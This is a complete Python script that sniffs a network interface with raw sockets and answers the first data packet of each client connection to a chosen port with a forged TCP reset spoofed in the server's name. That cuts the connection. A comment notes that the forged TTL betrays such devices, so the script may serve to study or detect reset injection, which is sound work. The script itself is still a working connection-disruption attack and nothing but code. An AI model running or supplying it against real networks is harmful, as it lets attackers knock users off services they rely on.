"""Watches an interface and answers the first data of each connection to PORT with a forged RST in the server's name.

usage: forge_reset.py INTERFACE PORT      (raw sockets: root)
"""

import socket
import struct
import sys

ETHERNET = 14
TCP_PROTOCOL = 6
FORGED_TTL = 128  # Another initial value than the server's 64: what gives such a device away.
FORGED_ID = 0xBEEF
RST_ACK = 0x14


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def forged(client, server, client_port, server_port, sequence, acknowledged):
    tcp = struct.pack(">HHIIBBHHH", server_port, client_port, sequence, acknowledged, 5 << 4, RST_ACK, 0, 0, 0)
    pseudo = server + client + struct.pack(">BBH", 0, TCP_PROTOCOL, len(tcp))
    tcp = tcp[:16] + struct.pack(">H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), FORGED_ID, 0, FORGED_TTL, TCP_PROTOCOL, 0, server, client)
    return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + tcp


def main():
    interface, port = sys.argv[1], int(sys.argv[2])
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    sniffer.bind((interface, 0))
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    answered = set()
    while True:
        frame = sniffer.recv(65535)
        ip = frame[ETHERNET:]
        header = (ip[0] & 15) * 4
        if len(frame) < ETHERNET + header + 20 or ip[9] != TCP_PROTOCOL:
            continue
        client_port, server_port, sequence, acknowledged, offset = struct.unpack_from(">HHIIB", ip, header)
        length = struct.unpack_from(">H", ip, 2)[0] - header - (offset >> 4) * 4
        if server_port != port or length <= 0 or client_port in answered:
            continue
        answered.add(client_port)
        packet = forged(ip[12:16], ip[16:20], client_port, server_port, acknowledged, (sequence + length) & 0xFFFFFFFF)
        sender.sendto(packet, (socket.inet_ntoa(ip[12:16]), 0))


if __name__ == "__main__":
    main()
